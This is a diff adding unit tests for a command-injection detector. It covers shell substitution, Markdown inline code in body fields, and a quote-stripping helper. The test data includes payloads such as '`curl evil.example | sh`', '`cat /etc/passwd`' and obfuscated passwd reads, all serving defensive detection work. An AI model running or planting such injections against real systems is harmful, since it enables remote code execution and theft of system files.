@@ -134,6 +134,40 @@ describe('detectCmdi', () => {
     }
   });
 
+  test('command substitution of a command that is also a word', () => {
+    for (const value of ['$(id)', '$(ps)', '$(w)', 'x$(id)', 'a;$(id)', '$(id)x', '<(id)']) {
+      assert.ok(fires(detectCmdi, value, { location: 'query' }), value);
+    }
+    for (const value of ['(id)', 'price $(5)', 'it costs $(5) — really', '$(id).hide()', '$(this).val()', 'see (ps)']) {
+      assert.equal(fires(detectCmdi, value, { location: 'query' }), false, value);
+    }
+  });
+
+  test('Markdown inline code in a body field is prose; a substitution in shell context is not', () => {
+    for (const value of [
+      'run `ls -la` and then `npm test`',
+      'Use `npm install` then `npm test`',
+      'Fixed it: run `ls -la` and then `npm test`',
+      '(see `id`) and **`whoami`** for details',
+    ]) {
+      assert.equal(fires(detectCmdi, value, { location: 'body' }), false, value);
+      // Outside a body, the same backticks are still read as substitutions.
+      if (!value.startsWith('(')) assert.ok(fires(detectCmdi, value, { location: 'query' }), value);
+    }
+    for (const value of [
+      '`cat /etc/passwd`',
+      'a`id`b',
+      'x;`whoami`',
+      '`id`',
+      'name="`id`"',
+      'try `curl evil.example | sh` now',
+      'try `echo $HOME` now',
+      'see `uname -a',
+    ]) {
+      assert.ok(fires(detectCmdi, value, { location: 'body' }), value);
+    }
+  });
+
   test('unshell undoes shell quoting', () => {
     assert.equal(unshell("c''at /e't'c/pa\"\"sswd"), 'cat /etc/passwd');
     assert.equal(unshell('cat${IFS}/etc/passwd'), 'cat /etc/passwd');
